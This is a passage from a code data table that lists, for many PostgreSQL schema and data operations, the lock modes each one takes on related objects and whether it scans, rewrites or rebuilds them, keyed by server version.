		}]
	}, {
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"add-primary-key": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"add-primary-key-nullable": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"add-exclusion": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"add-unique-using-index": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"add-primary-key-using-index": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"add-primary-key-using-index-nullable": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"drop-check": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-primary-key": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-primary-key-cascade": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "referencing",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"drop-unique": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"rename-constraint": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"alter-foreign-key": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"alter-foreign-key-not-enforced": [{
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "referenced",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"alter-foreign-key-enforced": [{
		from: 18,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				scans: true
			},
			{
				role: "index",
				lock: "ACCESS SHARE"
			},
			{
				role: "referenced",
				lock: "SHARE ROW EXCLUSIVE",
				scans: true
			}
		]
	}],
	"rename-table": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-schema": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"owner": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"enable-row-security": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"disable-row-security": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"force-row-security": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"no-force-row-security": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"replica-identity-full": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"replica-identity-nothing": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"enable-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"enable-always-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"enable-replica-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"disable-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"disable-trigger-all": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"disable-trigger-user": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"enable-rule": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"disable-rule": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-unlogged": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"set-logged": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"set-tablespace": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE",
				builds: true
			}
		]
	}],
	"set-same-tablespace": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-access-method": [{
		from: 15,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"set-options": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-autovacuum": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-user-catalog-table": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "toast",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"reset-options": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"cluster-on": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}, {
			role: "index",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-without-cluster": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-without-oids": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"inherit": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "parent",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"no-inherit": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "parent",
			lock: "ACCESS SHARE"
		}]
	}],
	"of-type": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "type",
			lock: "ACCESS SHARE"
		}]
	}],
	"not-of-type": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"several-actions": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"attach-partition": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"attach-partition-proven": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"attach-partition-beside-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "SHARE UPDATE EXCLUSIVE"
			},
			{
				role: "default-partition",
				lock: "ACCESS EXCLUSIVE",
				scans: true
			},
			{
				role: "partition",
				lock: "ACCESS EXCLUSIVE",
				scans: true
			}
		]
	}],
	"attach-default-partition": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"detach-partition": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"detach-partition-beside-default": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "default-partition",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "partition",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"detach-partition-concurrently": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-partition": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-partition-beside-default": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "default-partition",
			lock: "ACCESS EXCLUSIVE",
			scans: true
		}]
	}],
	"create-default-partition": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-partition": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "default-partition",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "parent",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"drop-partitioned-table": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "default-partition",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "partition",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"truncate-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE",
			rewrites: true
		}]
	}],
	"create-table": [{
		from: 14,
		costs: []
	}],
	"create-table-like": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"create-table-like-all": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"create-table-inherits": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"create-table-references": [{
		from: 14,
		costs: [{
			role: "referenced",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"create-table-as": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE",
			scans: true
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"select-into": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE",
			scans: true
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"drop-table": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"drop-table-with-foreign-key": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "referenced",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"drop-table-cascade": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "referencing",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"drop-table-view-cascade": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "view",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"drop-table-inherited-cascade": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "child",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"truncate": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE",
				builds: true
			}
		]
	}],
	"truncate-cascade": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "referencing",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				builds: true
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE",
				builds: true
			}
		]
	}],
	"truncate-restart-identity": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "sequence",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE",
				builds: true
			}
		]
	}],
	"lock-table": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"lock-table-share": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE"
		}]
	}],
	"lock-table-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "partition",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"lock-view": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "source",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"comment-on-table": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"comment-on-column": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"grant": [{
		from: 14,
		costs: []
	}, {
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"grant-column": [{
		from: 14,
		costs: []
	}, {
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"revoke": [{
		from: 14,
		costs: []
	}, {
		from: 18,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"create-index": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE",
			scans: true,
			builds: true
		}]
	}],
	"create-unique-index": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE",
			scans: true,
			builds: true
		}]
	}],
	"create-index-concurrently": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"create-index-on-partitioned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE"
		}, {
			role: "partition",
			lock: "SHARE",
			scans: true,
			builds: true
		}]
	}],
	"create-index-on-only": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE"
		}]
	}],
	"drop-index": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-index-concurrently": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"drop-index-on-partitioned": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "partition",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"rename-index": [{
		from: 14,
		costs: [{
			role: "index",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-index-options": [{
		from: 14,
		costs: [{
			role: "index",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-index-statistics": [{
		from: 14,
		costs: [{
			role: "index",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"set-index-tablespace": [{
		from: 14,
		costs: [{
			role: "itself",
			builds: true
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"attach-index": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS SHARE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "partition",
				lock: "ACCESS SHARE"
			}
		]
	}],
	"index-depends-on-extension": [{
		from: 14,
		costs: [{
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"reindex-index": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE",
			scans: true,
			builds: true
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"reindex-table": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "SHARE",
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				builds: true
			}
		]
	}],
	"reindex-index-concurrently": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"reindex-table-concurrently": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE",
			scans: true,
			builds: true
		}]
	}],
	"cluster": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE",
				builds: true
			}
		]
	}],
	"vacuum": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"vacuum-full": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			rewrites: true,
			scans: true,
			builds: true
		}]
	}],
	"vacuum-analyze": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"analyze": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"create-statistics": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"alter-statistics": [{
		from: 14,
		costs: []
	}],
	"drop-statistics": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"create-publication": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"alter-publication-add": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"alter-publication-drop": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE UPDATE EXCLUSIVE"
		}]
	}],
	"drop-publication": [{
		from: 14,
		costs: []
	}],
	"create-view": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"replace-view": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "source",
			lock: "ACCESS SHARE"
		}]
	}],
	"rename-view": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-view-options": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"view-owner": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-view": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-materialized-view": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE",
			scans: true
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"create-materialized-view-no-data": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"refresh": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE",
				rewrites: true,
				scans: true,
				builds: true
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "source",
				lock: "ACCESS SHARE",
				scans: true
			}
		]
	}],
	"refresh-concurrently": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "EXCLUSIVE",
				scans: true
			},
			{
				role: "index",
				lock: "ROW EXCLUSIVE"
			},
			{
				role: "source",
				lock: "ACCESS SHARE",
				scans: true
			}
		]
	}],
	"refresh-no-data": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			rewrites: true,
			builds: true
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-materialized-view": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "index",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"replace-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}]
	}],
	"create-constraint-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}, {
			role: "referenced",
			lock: "ACCESS SHARE"
		}]
	}],
	"drop-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"rename-trigger": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-trigger-function-cascade": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-rule": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"replace-rule": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-rule": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"rename-rule": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-policy": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"alter-policy": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-policy": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"rename-policy": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"domain-add-check": [{
		from: 14,
		costs: [{
			role: "using",
			lock: "SHARE",
			scans: true
		}]
	}],
	"domain-add-check-not-valid": [{
		from: 14,
		costs: []
	}],
	"domain-validate": [{
		from: 14,
		costs: [{
			role: "using",
			lock: "SHARE",
			scans: true
		}]
	}],
	"domain-set-not-null": [{
		from: 14,
		costs: [{
			role: "using",
			lock: "SHARE",
			scans: true
		}]
	}],
	"domain-drop-not-null": [{
		from: 14,
		costs: []
	}],
	"domain-drop-constraint": [{
		from: 14,
		costs: []
	}],
	"domain-set-default": [{
		from: 14,
		costs: []
	}],
	"drop-domain-cascade": [{
		from: 14,
		costs: [{
			role: "using",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-type-cascade": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-add-value": [{
		from: 14,
		costs: []
	}],
	"type-rename-value": [{
		from: 14,
		costs: []
	}],
	"type-rename": [{
		from: 14,
		costs: []
	}],
	"type-add-attribute": [{
		from: 14,
		costs: [{
			role: "type",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "using",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-drop-attribute": [{
		from: 14,
		costs: [{
			role: "type",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "using",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"type-alter-attribute": [{
		from: 14,
		costs: [{
			role: "type",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "using",
			lock: "ACCESS EXCLUSIVE",
			rewrites: true,
			scans: true
		}]
	}],
	"type-rename-attribute": [{
		from: 14,
		costs: [{
			role: "type",
			lock: "ACCESS EXCLUSIVE"
		}, {
			role: "using",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-sequence": [{
		from: 14,
		costs: []
	}],
	"create-sequence-owned": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE"
		}]
	}],
	"alter-sequence": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE",
			rewrites: true
		}]
	}],
	"restart-sequence": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE",
			rewrites: true
		}]
	}],
	"sequence-owned-by": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "SHARE ROW EXCLUSIVE"
		}, {
			role: "source",
			lock: "ACCESS SHARE"
		}]
	}],
	"rename-sequence": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"set-sequence-unlogged": [{
		from: 15,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE",
			rewrites: true
		}]
	}],
	"drop-sequence": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"create-foreign-table": [{
		from: 14,
		costs: []
	}],
	"foreign-table-options": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"foreign-column-options": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-foreign-table": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS EXCLUSIVE"
		}]
	}],
	"drop-schema-cascade": [{
		from: 14,
		costs: [
			{
				role: "itself",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "index",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "referenced",
				lock: "ACCESS EXCLUSIVE"
			},
			{
				role: "toast",
				lock: "ACCESS EXCLUSIVE"
			}
		]
	}],
	"rename-schema": [{
		from: 14,
		costs: []
	}],
	"create-event-trigger": [{
		from: 14,
		costs: []
	}],
	"insert": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ROW EXCLUSIVE"
		}]
	}],
	"update": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ROW EXCLUSIVE",
			scans: true
		}, {
			role: "index",
			lock: "ROW EXCLUSIVE"
		}]
	}],
	"delete": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ROW EXCLUSIVE",
			scans: true
		}, {
			role: "index",
			lock: "ROW EXCLUSIVE"
		}]
	}],
	"merge": [{
		from: 15,
		costs: [{
			role: "itself",
			lock: "ROW EXCLUSIVE",
			scans: true
		}, {
			role: "index",
			lock: "ROW EXCLUSIVE"
		}]
	}],
	"select": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ACCESS SHARE",
			scans: true
		}, {
			role: "index",
			lock: "ACCESS SHARE"
		}]
	}],
	"select-for-update": [{
		from: 14,
		costs: [{
			role: "itself",
			lock: "ROW SHARE",
			scans: true
		}, {
			role: "index",
